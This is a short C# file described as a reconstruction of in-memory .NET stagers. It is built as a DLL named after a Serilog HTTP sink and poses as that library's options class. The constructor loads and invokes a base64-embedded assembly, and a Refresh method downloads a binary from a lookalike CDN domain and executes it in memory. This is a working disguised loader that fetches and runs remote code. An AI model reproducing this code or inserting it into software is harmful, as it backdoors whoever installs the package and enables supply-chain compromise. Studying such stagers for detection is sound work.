// Reconstruction of in-memory .NET stagers: the second stage is an assembly kept as
// base64 in the DLL (or fetched as bytes) and loaded with Assembly.Load, so that it
// never touches the disk. Built with: mcs -target:library -out:Serilog.Sinks.Http.Extra.dll Loader.cs
using System;
using System.Net;
using System.Reflection;

namespace Serilog.Sinks.Http.Extra
{
    public class HttpSinkOptions
    {
        const string Stage = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAATAEDAA==";

        public HttpSinkOptions()
        {
            var stage = Assembly.Load(Convert.FromBase64String(Stage));
            stage.EntryPoint.Invoke(null, new object[] { new string[0] });
        }

        public static void Refresh()
        {
            byte[] next = new WebClient().DownloadData("http://cdn-serilog-sinks.net/v2/refresh.bin");
            Assembly.Load(next).GetType("Refresh.Program").GetMethod("Main").Invoke(null, null);
        }
    }
}
